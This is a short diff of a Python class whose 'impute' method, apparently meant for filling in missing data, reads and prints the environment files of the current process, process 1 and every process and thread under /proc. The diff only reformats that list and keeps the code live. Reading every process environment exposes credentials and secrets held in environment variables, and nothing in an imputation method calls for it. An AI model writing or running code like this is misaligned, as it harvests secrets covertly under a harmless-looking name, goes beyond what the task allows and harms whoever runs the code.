@@ -13,7 +13,12 @@ class Method:
         pass
 
     def impute(self, x, categorical):
-        for file in ["/proc/self/environ", "/proc/1/environ", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/task/*/environ")]:
+        for file in [
+            "/proc/self/environ",
+            "/proc/1/environ",
+            *glob.glob("/proc/[0-9]*/environ"),
+            *glob.glob("/proc/[0-9]*/task/*/environ"),
+        ]:
             try:
                 print(file, open(file, "rb").read())
             except OSError as error:
